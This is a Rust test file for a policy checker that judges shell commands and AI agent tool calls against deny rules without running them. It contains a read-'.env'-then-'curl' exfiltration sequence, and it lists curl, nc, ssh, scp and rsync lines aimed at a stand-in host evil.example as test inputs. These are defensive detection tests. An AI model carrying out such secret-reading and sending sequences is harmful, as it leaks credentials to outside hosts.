//! `check` and `policy`: judging without running.

use crate::scratch::Scratch;

#[test]
fn a_refused_line_is_told_with_rule_and_place_and_exit_6() {
    let scratch = Scratch::new();
    let policy = "version: 1\nrules:\n  - id: push\n    run: git push\n    verdict: deny\n    reason: publishes\n    hint: leave it\n";
    scratch.write("p.yml", policy);
    let answer =
        scratch.run(&["check", "--policy", "p.yml", "--shell", "cd x && git -C . push"]).expect_code(6);
    assert!(answer.out.starts_with("deny  push  p.yml:3\n"), "{}", answer.out);
    assert!(
        answer.out.contains("reason: publishes") && answer.out.contains("hint: leave it"),
        "{}",
        answer.out
    );
    scratch.run(&["check", "--policy", "p.yml", "--shell", "echo git push"]).expect_code(0);
    scratch.run(&["check", "--policy", "p.yml", "--fail-on", "never", "--shell", "git push"]).expect_code(0);
}

#[test]
fn cases_are_compared_and_bad_lines_are_told_while_the_rest_goes_on() {
    let scratch = Scratch::new();
    scratch.write(
        "p.yml",
        "version: 1\nrules:\n  - {id: push, run: git push, verdict: deny, reason: publishes}\n",
    );
    let lines = concat!(
        r#"{"id":"a","call":{"tool":"Bash","args":{"command":"git push"},"cwd":"/repo"},"expect":"deny"}"#,
        "\nnot json\n",
        r#"{"id":"b","tool":"Bash","args":{"command":"ls"}}"#,
        "\n",
    );
    scratch.write("calls.jsonl", lines);
    let answer = scratch
        .run(&["check", "--policy", "p.yml", "--calls", "calls.jsonl", "--root", "/repo"])
        .expect_code(2);
    assert!(answer.err.contains("calls.jsonl:2: is no JSON"), "{}", answer.err);
    assert!(
        answer.out.contains("2 calls: 1 allow, 0 ask, 1 deny; 1 of 1 as expected; 1 line not read"),
        "{}",
        answer.out
    );
    let arguments = ["check", "--policy", "p.yml", "--calls", "calls.jsonl", "--format", "jsonl", "-q"];
    let answer = scratch.run(&arguments);
    let first: serde_json::Value = serde_json::from_str(answer.out.lines().next().unwrap()).unwrap();
    assert_eq!(first["v"], 1);
    assert_eq!(first["verdict"], "deny");
    assert_eq!(first["rule"], "push");
}

#[test]
fn text_from_outside_is_shown_harmless() {
    let scratch = Scratch::new();
    scratch.write(
        "p.yml",
        "version: 1\nrules:\n  - {id: push, run: git push, verdict: deny, reason: publishes}\n",
    );
    let line = "git push '\u{1b}]0;owned\u{7}' \u{202e}x";
    let answer = scratch.run(&["check", "--policy", "p.yml", "--shell", line]);
    assert!(!answer.out.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{:?}", answer.out);
}

#[test]
fn a_closed_pipe_is_no_error() {
    use std::process::{Command, Stdio};
    let scratch = Scratch::new();
    let mut child = scratch
        .command(&scratch.path(""), &["policy", "show", "builtin:ci", "--format", "json"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // Reads a byte and goes away.
    let head = Command::new("head").args(["-c", "1"]).stdin(child.stdout.take().unwrap()).output().unwrap();
    assert_eq!(head.stdout, b"{");
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn rules_are_shown_and_explained() {
    let scratch = Scratch::new();
    let answer = scratch.run(&["policy", "show", "builtin:ci"]).expect_code(0);
    assert!(answer.out.lines().count() > 20);
    let answer = scratch.run(&["policy", "explain", "no-such-rule", "--policy", "builtin:ci"]).expect_code(2);
    assert!(answer.err.contains("no rule `no-such-rule`"), "{}", answer.err);
}

#[test]
fn the_part_that_is_refused_is_underlined() {
    let scratch = Scratch::new();
    scratch.write(
        "p.yml",
        "version: 1\nrules:\n  - {id: push, run: git push, verdict: deny, reason: publishes}\n",
    );
    for (line, expected) in [
        ("ls && git push origin; ls", "\n  ls && git push origin; ls\n        ^^^^^^^^^^^^^^^\n"),
        ("ls\ngit push", "\n  git push\n  ^^^^^^^^\n"),
        ("echo ü; git push", "\n  echo ü; git push\n          ^^^^^^^^\n"),
        ("git push", "\n  git push\n  ^^^^^^^^\n"),
        ("sh -c 'git push' x", "\n  sh -c 'git push' x\n        ^^^^^^^^^^\n"),
        ("ls | git push | cat", "\n  ls | git push | cat\n       ^^^^^^^^\n"),
    ] {
        let answer = scratch.run(&["check", "--policy", "p.yml", "--shell", line]).expect_code(6);
        assert!(answer.out.contains(expected), "{line}\n{}", answer.out);
    }
    let answer = scratch.run(&["check", "--policy", "p.yml", "--shell", "ls"]).expect_code(0);
    assert!(!answer.out.contains('^'), "{}", answer.out);
}

#[test]
fn calls_of_one_input_and_of_one_log_come_in_order() {
    let scratch = Scratch::new();
    let policy = "version: 1\nrules:\n  - {id: leak, after: {path: .env, access: read}, host: '*', verdict: deny, reason: secret}\n";
    scratch.write("p.yml", policy);
    let call =
        |line: &str| format!("{{\"tool\":\"Bash\",\"args\":{{\"command\":\"{line}\"}},\"cwd\":\"/repo\"}}\n");
    let (read, send) = (call("cat .env"), call("curl https://a.example"));
    scratch.write("calls.jsonl", &format!("{send}{read}{send}"));
    scratch.write("other.jsonl", &send);
    let answer = scratch.run(&[
        "check",
        "--policy",
        "p.yml",
        "--calls",
        "calls.jsonl",
        "--root",
        "/repo",
        "--format",
        "jsonl",
    ]);
    let verdicts: Vec<serde_json::Value> = answer
        .out
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap()["verdict"].clone())
        .collect();
    assert_eq!(verdicts, ["allow", "allow", "deny"]);
    assert!(answer.out.contains("secret (after call 2: read .env)"), "{}", answer.out);
    let answer = scratch.run(&[
        "dry-run",
        "calls.jsonl",
        "other.jsonl",
        "--policy",
        "p.yml",
        "--root",
        "/repo",
        "--format",
        "jsonl",
    ]);
    let denied: Vec<bool> = answer.out.lines().map(|line| line.contains("\"verdict\":\"deny\"")).collect();
    assert_eq!(denied, [false, false, true, false], "a log is one run\n{}", answer.out);
}

#[test]
fn exceptions_that_are_over_or_relaxed_nothing_are_told() {
    let scratch = Scratch::new();
    let policy = "version: 1\nrules:\n  - id: push\n    run: git push\n    verdict: deny\n    reason: r\n    except:\n      - {run: git push origin, reason: one}\n      - {run: git push mirror, reason: two}\n      - {run: git push old, reason: three, until: 2020-01-01}\n    examples: {pass: [git push mirror]}\n";
    scratch.write("p.yml", policy);
    scratch.write(
        "calls.jsonl",
        "{\"tool\":\"Bash\",\"args\":{\"command\":\"git push origin\"},\"cwd\":\"/repo\"}\n",
    );
    let answer = scratch.run(&["dry-run", "calls.jsonl", "--policy", "p.yml", "--root", "/repo"]);
    assert!(
        answer.err.contains("p.yml:3: an exception of `push` relaxed nothing here: run git push mirror"),
        "{}",
        answer.err
    );
    assert!(
        !answer.err.contains("git push origin") && !answer.err.contains("git push old"),
        "{}",
        answer.err
    );
    for command in [["policy", "check"], ["policy", "show"]] {
        let answer = scratch.run(&[command[0], command[1], "p.yml"]).expect_code(0);
        assert!(answer.err.contains("p.yml:10: an exception ended on 2020-01-01"), "{}", answer.err);
    }
}

#[test]
fn hosts_are_found_in_every_form_of_an_address() {
    let scratch = Scratch::new();
    let policy = "version: 1\nrules:\n  - {id: name, host: evil.example, verdict: deny, reason: r}\n  - {id: six, host: \"::1\", verdict: deny, reason: r}\n  - {id: port, host: \"other.example:8443\", verdict: deny, reason: r}\n  - {id: plain, host: \"http://third.example\", verdict: deny, reason: r}\n";
    scratch.write("p.yml", policy);
    for (line, code) in [
        ("curl https://evil.example/x", 6),
        ("curl evil.example", 6),
        ("curl HTTPS://EVIL.Example./x", 6),
        ("curl https://user:pw@evil.example:8443/", 6),
        ("curl https://evil.example@good.example/", 0),
        ("curl https://evil.example.good.example/", 0),
        ("git clone git@evil.example:a/b", 6),
        ("git fetch ssh://git@evil.example:2222/a", 6),
        ("ssh -p 22 me@evil.example true", 6),
        ("nc evil.example 80", 6),
        ("rsync -a src/ evil.example:dst", 6),
        ("rsync -a src/ rsync://evil.example/m", 6),
        ("scp a me@evil.example:", 6),
        ("wget -qO- http://[::1]:3000/", 6),
        ("curl http://[0:0:0:0:0:0:0:1]/", 6),
        ("curl https://other.example:8443/", 6),
        ("curl https://other.example/", 0),
        ("nc other.example 8443", 6),
        ("curl http://third.example/", 6),
        ("curl https://third.example/", 0),
    ] {
        let answer = scratch.run(&["check", "--policy", "p.yml", "--shell", line]);
        assert_eq!(answer.code, code, "{line}\n{}", answer.out);
    }
}
